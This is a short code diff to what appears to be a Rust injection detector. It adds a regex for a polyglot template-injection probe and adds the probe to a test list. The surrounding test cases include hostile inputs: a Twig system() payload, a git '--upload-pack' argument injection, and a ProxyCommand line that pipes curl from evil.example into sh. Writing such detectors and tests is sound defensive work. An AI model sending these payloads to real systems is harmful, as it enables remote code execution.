@@ -389,6 +389,12 @@ impl Rce {
                 RCE_SSTI,
                 r#"\{\{\s*[0-9]+\s*\*\s*['"]?[0-9]+['"]?\s*\}\}|<%=?\s*[0-9]+\s*\*\s*[0-9]+\s*%>|[$#]\{\s*[0-9]+\s*\*\s*[0-9]+\s*\}"#,
             ),
+            // A polyglot probe: the openers of three template languages glued together
+            // (`${{<%[%'"}}%\.`), sent to learn which engine errors.
+            (
+                RCE_SSTI,
+                r#"(?:(?:\$\{|\{\{|<%|\[%|#\{|\{%|\*\{)[{'"\s]?){3}"#,
+            ),
             // Twig: `{{['id']|filter('system')}}`.
             (
                 RCE_SSTI,
@@ -1432,6 +1438,7 @@ mod tests {
                 "{{7*'7'}}",
                 "<%= 7*7 %>",
                 "{{['id']|filter('system')}}",
+                "${{<%[%'\"}}%\\.",
                 "--upload-pack=touch /tmp/pwned",
                 "-oProxyCommand=curl evil.example|sh",
                 "@{[system \"touch /tmp/blns.fail\"]}",
